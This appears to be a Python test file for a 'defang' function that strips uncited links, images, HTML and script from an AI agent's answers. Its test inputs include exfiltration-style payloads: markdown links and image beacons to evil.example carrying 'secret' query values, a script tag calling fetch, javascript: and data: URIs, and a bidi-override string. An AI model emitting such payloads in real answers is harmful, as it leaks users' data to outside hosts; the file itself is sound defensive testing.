"""An answer links only to cited sources; pictures, HTML and other addresses go."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from agents.defanging import defang

CITED = "https://wiki.acme.example/fees?page=2"
FILE = "file:///srv/files/fees.md"


@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        ("See [the list](https://evil.example/x?q=secret).", "See the list."),
        ("![chart](https://evil.example/p.png?d=1) A parcel costs 5 EUR.", "chart A parcel costs 5 EUR."),
        ("A parcel costs 5 EUR, see https://evil.example/a.", "A parcel costs 5 EUR, see [link removed]."),
        ("Go to www.evil.example/x now", "Go to [link removed] now"),
        ("[a](javascript:alert(1))", "a"),
        ("[a](data:text/html;base64,AAAA)", "a"),
        ("javascript:alert(1)", "[link removed]"),
        ('<img src="https://evil.example/x.png">5 EUR', "5 EUR"),
        ("<script>fetch('//evil.example')</script>5 EUR", "5 EUR"),
        ('<a href="https://evil.example">here</a>', "here"),
        ("<https://evil.example/x>", "[link removed]"),
        ("[https://good.example](https://evil.example)", "[link removed]"),
        ("[x]: https://evil.example/y\nText", "\nText"),
        ("![a][x]", "a"),
        ("//evil.example/x", "[link removed]"),
        ("5\u202eRUE\u202c", "5RUE"),
    ],
)
def test_what_leads_elsewhere_is_reduced_to_its_text(answer: str, kept: str) -> None:
    assert defang(answer, [CITED]) == kept


@pytest.mark.parametrize(
    "answer",
    [
        f"See [the list]({CITED}).",
        f"See {CITED}.",
        f"See [the list]({CITED}#prices).",
        f"It stands in [fees]({FILE}).",
        "A parcel costs 5 EUR [1].\n\n- A < B and x > y\n- List<String> at 10:30, a/b//c",
        "[1]: The fee is due in May.",
        "Write to fees@acme.example.",
    ],
)
def test_links_to_cited_sources_and_plain_text_stay(answer: str) -> None:
    assert defang(answer, [CITED, FILE]) == answer


def test_an_address_that_only_begins_like_a_cited_one_goes() -> None:
    assert defang(f"{CITED}&d=secret", [CITED]) == "[link removed]"
    assert defang("https://wiki.acme.example.evil.example/fees?page=2", [CITED]) == "[link removed]"


LIVE = re.compile(
    r"!\[[^\]]*\]\(|\]\((?!https://wiki)|https?://(?!wiki\.acme)|javascript:\S|<(?:img|a|script)\b", re.IGNORECASE
)


@given(
    st.lists(
        st.sampled_from(
            [
                "[a](",
                "![",
                "](",
                ")",
                "[",
                "]",
                "<img ",
                "<",
                ">",
                "https://evil.example/",
                "javascript:",
                "x",
                " ",
                "\n",
                "(",
                "//",
                "www.",
            ]
        ),
        max_size=14,
    ).map("".join)
)
@example("[a](https://evil.example/ [b](https://evil.example/))")
@example("<im<img >g src=x>")
@example("[[a](javascript:x)](javascript:x)")
@settings(deadline=None)
def test_nothing_live_is_left_whatever_is_nested(answer: str) -> None:
    assert not LIVE.search(defang(answer, [CITED]))


@pytest.mark.parametrize("piece", ["[a](", "![", "<a ", "((", "https://", "[", "]: www."])
def test_hostile_repetition_is_looked_through_whole(piece: str) -> None:
    defang(piece * (40_000 // len(piece)), [])
